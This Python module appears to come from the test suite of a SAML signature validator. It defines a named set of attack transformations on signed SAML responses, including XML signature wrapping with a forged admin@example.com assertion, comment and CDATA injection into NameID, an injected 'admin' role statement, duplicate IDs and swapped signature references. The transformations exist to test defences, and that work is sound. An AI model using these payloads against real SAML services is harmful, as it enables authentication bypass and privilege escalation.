"""What an attacker does to a signed message so that something else is read than what was signed.

Each takes the signed text and gives another; the signatures in it may still verify. The names are those of
``docs/architecture.md``: what the gate or the scan of the structure should say.
"""

from __future__ import annotations

import re
from collections.abc import Callable

_ASSERTION = re.compile(r"<((?:\w+:)?)Assertion\b.*</\1Assertion>", re.S)
_STATUS = re.compile(r"<(?:\w+:)?Status>")


def _comment_in_value(xml: str) -> str:
    """Split the NameID by a comment: canonicalization drops it, some readers stop at it (CVE-2017-11428 and kin)."""
    return re.sub(r"(NameID\b[^>]*>[^<@]+)", "\\1<!---->", xml, count=1)


def _cdata_in_value(xml: str) -> str:
    """Write the NameID as a CDATA section: legal, but in pieces for some readers."""
    return re.sub(r"(NameID\b[^>]*>)([^<]+)", "\\1<![CDATA[\\2]]>", xml, count=1)


def _doctype(xml: str) -> str:
    """Declare an entity in a document type."""
    declaration, body = re.match(r"(<\?xml[^>]*\?>)?(.*)", xml, re.S).groups("")  # type: ignore[union-attr]
    return f'{declaration}<!DOCTYPE r [<!ENTITY e "e">]>{body}'


def _duplicate_id(xml: str) -> str:
    """Put a second element with the assertion's ID beside it."""
    found = re.search(r"<((?:\w+:)?)Assertion\b[^>]*?\bID=\"([^\"]*)\"", xml)
    if found is None:
        return xml
    return re.sub(r"(</(?:\w+:)?Response>)", f'<x:Extra xmlns:x="urn:example:extra" ID="{found[2]}"/>\\1', xml)


def _wrapped(xml: str) -> str:
    """Signature wrapping: a forged assertion first, the signed one kept where a verifier finds it by ID (XSW3)."""
    found = _ASSERTION.search(xml)
    if found is None:
        return xml
    forged = re.sub(r"<((?:\w+:)?)Signature\b.*?</\1Signature>", "", found[0], flags=re.S)
    forged = re.sub(r"\bID=\"[^\"]*\"", 'ID="_forged"', forged, count=1)
    forged = re.sub(r"(NameID\b[^>]*>)[^<]*", "\\1admin@example.com", forged)
    return xml.replace(found[0], forged + found[0])


def _before_status(xml: str, insertion: str) -> str:
    """Put something into samlp:Extensions, where any element may stand (core 3.2.2)."""
    wrapped = f'<samlp:Extensions xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">{insertion}</samlp:Extensions>'
    return _STATUS.sub(lambda found: wrapped + found[0], xml, count=1)


def _assertion_elsewhere(xml: str) -> str:
    """Hide a copy of the assertion among the extensions, under an ID of its own."""
    found = _ASSERTION.search(xml)
    return xml if found is None else _before_status(xml, re.sub(r"\bID=\"[^\"]*\"", 'ID="_hidden"', found[0], count=1))


def _statement_elsewhere(xml: str) -> str:
    """Put an attribute statement of one's own beside the signed assertion."""
    said = '<s:Attribute Name="role"><s:AttributeValue>admin</s:AttributeValue></s:Attribute>'
    loose = f'<s:AttributeStatement xmlns:s="urn:oasis:names:tc:SAML:2.0:assertion">{said}</s:AttributeStatement>'
    return _ASSERTION.sub(lambda found: loose + found[0], xml, count=1)


def _encrypted_beside_plain(xml: str) -> str:
    """Put an encrypted assertion after the plain one (CVE-2026-2092)."""
    sealed = '<e:EncryptedAssertion xmlns:e="urn:oasis:names:tc:SAML:2.0:assertion"/>'
    return _ASSERTION.sub(lambda found: found[0] + sealed, xml, count=1)


def _signature_elsewhere(xml: str) -> str:
    """Put a copy of the first signature among the extensions."""
    found = re.search(r"<((?:\w+:)?)Signature\b.*?</\1Signature>", xml, re.S)
    return xml if found is None else _before_status(xml, found[0])


def _processing_instruction(xml: str) -> str:
    """Put a processing instruction into the NameID."""
    return re.sub(r"(NameID\b[^>]*>)", "\\1<?x y?>", xml, count=1)


def _reference_elsewhere(xml: str) -> str:
    """Let the signature of the response refer to the assertion, and that of the assertion to the response."""
    response, assertion = (re.search(rf"<(?:\w+:)?{name}\b[^>]*?\bID=\"([^\"]*)\"", xml) for name in ("Response", "Assertion"))
    if response is None or assertion is None:
        return xml
    swapped = {f"#{response[1]}": f"#{assertion[1]}", f"#{assertion[1]}": f"#{response[1]}"}
    return re.sub(r"(Reference URI=\")([^\"]*)", lambda found: found[1] + swapped.get(found[2], found[2]), xml)


def _signature_look_alike(xml: str) -> str:
    """Put the first signature into another namespace, so that it is none for those who look at namespaces."""
    return re.sub(r'(<(?:\w+:)?Signature [^>]*?"http://www.w3.org/2000/09/xmldsig)#"', '\\1-#"', xml, count=1)


def _signature_out_of_order(xml: str) -> str:
    """Put the signature of the response at its end, where software that does not know SAML appends it."""
    found = re.search(r"<((?:\w+:)?)Signature\b.*?</\1Signature>", xml, re.S)
    if found is None:
        return xml
    return re.sub(
        r"(</(?:\w+:)?(?:Response|Assertion)>)(?!.*</)", lambda end: found[0] + end[0], xml.replace(found[0], "", 1), flags=re.S
    )


ATTACKS: dict[str, Callable[[str], str]] = {
    "comment-in-value": _comment_in_value,
    "cdata-in-value": _cdata_in_value,
    "dtd": _doctype,
    "duplicate-id": _duplicate_id,
    "several-assertions": _wrapped,
    "assertion-elsewhere": _assertion_elsewhere,
    "statement-elsewhere": _statement_elsewhere,
    "encrypted-beside-plain": _encrypted_beside_plain,
    "signature-look-alike": _signature_look_alike,
    "signature-elsewhere": _signature_elsewhere,
    "signature-out-of-order": _signature_out_of_order,
    "processing-instruction": _processing_instruction,
    "foreign-id-attribute": lambda xml: re.sub(r"(<(?:\w+:)?Status)>", '\\1 xml:id="_other">', xml, count=1),
    "relative-namespace": lambda xml: re.sub(r"(<(?:\w+:)?Status)>", '\\1 xmlns:r="relative">', xml, count=1),
    "reference-elsewhere": _reference_elsewhere,
    "reference-external": lambda xml: re.sub(r"(Reference URI=\")[^\"]*", "\\1https://files.example/other.xml", xml),
    "transform-refused": lambda xml: xml.replace(
        "http://www.w3.org/2000/09/xmldsig#enveloped-signature", "http://www.w3.org/TR/1999/REC-xpath-19991116"
    ),
    "object-in-signature": lambda xml: re.sub(r"(</((?:\w+:)?)Signature>)", "<\\2Object/>\\1", xml),
}
"""Every attack by its name."""
